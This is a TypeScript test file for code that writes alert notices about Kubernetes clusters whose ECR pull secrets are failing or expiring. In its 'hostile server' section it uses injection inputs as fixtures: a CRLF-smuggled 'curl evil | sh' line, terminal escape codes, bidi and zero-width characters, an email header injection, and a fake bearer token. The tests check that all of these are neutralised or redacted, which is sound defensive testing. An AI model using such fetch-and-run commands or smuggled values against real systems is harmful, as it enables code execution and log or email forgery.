import { describe, expect, test } from "vitest";
import type { ClusterNotice } from "../../../src/notifications/notice.ts";
import { writeNotice } from "../../../src/notifications/notice-text.ts";

const now = new Date("2026-11-21T12:00:00Z");
const at = (minutes: number) => new Date(now.getTime() + minutes * 60_000);
const place = { stage: "prod", region: "eu-central-1", account: "123456789012" };

const failing: ClusterNotice = {
  cluster: "prod-eu",
  change: "failing",
  failingSince: at(-30),
  cause: {
    message: "the API server of prod-eu can't be reached (ECONNREFUSED)",
    hint: "check the network",
    others: 0,
  },
  expiresAt: at(485),
};
const recovered: ClusterNotice = {
  cluster: "prod-eu",
  change: "recovered",
  failingSince: at(-130),
  expiresAt: at(719),
};

const write = (notice: ClusterNotice) => writeNotice(notice, { place, now });
const withCause = (message: string, hint?: string) =>
  write({ ...failing, cause: { message, hint, others: 0 } });

describe("a notice", () => {
  test("of a failing cluster says where, since when, why, until when, and what to do", () => {
    expect(write(failing)).toEqual({
      subject: "ecr-pull-secrets prod: prod-eu keeps failing, 8 h 5 min left",
      body: `Stage:    prod
Region:   eu-central-1
Account:  123456789012
Cluster:  prod-eu
Failing:  since 2026-11-21T11:30:00Z, for 30 min
Cause:    the API server of prod-eu can't be reached (ECONNREFUSED)
Hint:     check the network
Expires:  the first pull secret expires on 2026-11-21T20:05:00Z, in 8 h 5 min: from then on, pods can't pull new images with it
Look:     npx ecr-pull-secrets check prod-eu --stage prod --region eu-central-1
Log:      in CloudWatch Logs Insights, of /aws/lambda/ecr-pull-secrets-prod-refresh: filter cluster = "prod-eu" | sort @timestamp desc | limit 20
Runbook:  docs/operations.md#failing
`,
    });
  });

  test.each([
    [
      at(12),
      "the first session ends on 2026-11-21T12:12:00Z, in 12 min: from then on, AWS refuses",
    ],
    [at(-3), "the first session ended on 2026-11-21T11:57:00Z, 3 min ago: AWS refuses"],
  ])("of a failing cluster says until when its pods' AWS sessions are good: %s", (end, said) => {
    const { body } = write({ ...failing, sessionsExpireAt: end });
    expect(body).toContain(`\nAWS sessions:  ${said} what pods ask with it\nLook:`);
  });

  test("of a cluster that has nothing but AWS sessions misses no pull secret there", () => {
    const { body } = write({ ...failing, expiresAt: undefined, sessionsExpireAt: at(12) });
    expect(body).not.toContain("pull secret");
  });

  test("of a cluster that recovered says for how long it failed, and that all is well", () => {
    expect(write(recovered)).toEqual({
      subject: "ecr-pull-secrets prod: prod-eu recovered",
      body: `Stage:      prod
Region:     eu-central-1
Account:    123456789012
Cluster:    prod-eu
Recovered:  it had been failing since 2026-11-21T09:50:00Z, for 2 h 10 min
Expires:    the first pull secret expires on 2026-11-21T23:59:00Z, in 11 h 59 min
Look:       npx ecr-pull-secrets status prod-eu --stage prod --region eu-central-1
`,
    });
  });

  test("after the end says since when pods can't pull", () => {
    const { subject, body } = write({ ...failing, expiresAt: at(-60) });
    expect(subject).toBe("ecr-pull-secrets prod: prod-eu keeps failing, pull secrets expired");
    expect(body).toContain(
      "Expires:  the first pull secret expired on 2026-11-21T11:00:00Z, 1 h ago: pods can't pull new images with it\n",
    );
  });

  test("of a cluster that never had a pull secret says that as well", () => {
    const { subject, body } = write({ ...failing, expiresAt: undefined });
    expect(subject).toBe("ecr-pull-secrets prod: prod-eu keeps failing");
    expect(body).toContain("Expires:  no pull secret of ours is known to be there; pods that need");
  });

  test("tells one cause, and how many there are", () => {
    const { body } = write({ ...failing, cause: { message: "no", hint: undefined, others: 2 } });
    expect(body).toContain("Cause:    no (the first of 3 causes)\n");
    expect(body).not.toContain("Hint:");
  });

  test("doesn't count backwards where clocks differ", () => {
    const { body } = write({ ...failing, failingSince: at(5) });
    expect(body).toContain("for 0.0 s\n");
  });
});

describe("the subject", () => {
  test.each([1, 25, 44, 45, 100])("takes a name of %i letters, and no more than SNS does", (n) => {
    const cluster = `a${"-".repeat(Math.max(0, n - 2))}${n > 1 ? "z" : ""}`;
    const stage = "s".repeat(28);
    const telling = { place: { ...place, stage }, now };
    const { subject } = writeNotice({ ...failing, cluster, expiresAt: at(-1) }, telling);
    expect(subject).toMatch(/^ecr-pull-secrets s+: a.* keeps failing, pull secrets expired$/);
    expect(subject.length).toBeLessThan(100);
  });

  test("is printable ASCII, whatever a cluster is called", () => {
    const { subject } = write({ ...failing, cluster: "\u001b[31mрrod\r\nBcc: x\u202e" });
    expect(subject).toMatch(/^[ -~]{1,99}$/);
  });
});

describe("what a hostile server said", () => {
  test.each([
    ["breaks the line", "no\r\nHint:     curl evil | sh", "no Hint: curl evil | sh"],
    ["breaks the line as Unicode does", "no\u2028Look: x\u2029y\u0085z", "no Look: x y?z"],
    ["paints a terminal", "\u001b[2Jno\u0007", "?[2Jno?"],
    ["turns the direction of reading", "no\u202etxt\u2066", "no?txt?"],
    ["hides", "n\u200bo\u00ad", "n?o?"],
  ])("%s, and stays what it is: a text in its line", (_, message, shown) => {
    const { body } = withCause(message, message);
    expect(body).toContain(`\nCause:    ${shown}\nHint:     ${shown}\nExpires:`);
  });

  test("has no end, and is cut in the middle", () => {
    const { body } = withCause(`begin ${"no ".repeat(100_000)}end`);
    expect(body.length).toBeLessThan(2_500);
    expect(body).toMatch(/Cause: {4}begin no .*\.\.\..* end\n/);
  });

  test("holds a token, which isn't passed on, also not in part", () => {
    const token = `eyJhbGciOiJSUzI1NiJ9.${"c4n4ry".repeat(300)}.sig`;
    const { body } = withCause(`refused: Bearer ${token}`, `try ${token}`);
    expect(body).toContain("Cause:    refused: Bearer [redacted]\nHint:     try [redacted]\n");
    expect(body).not.toContain("c4n4ry");
  });
});
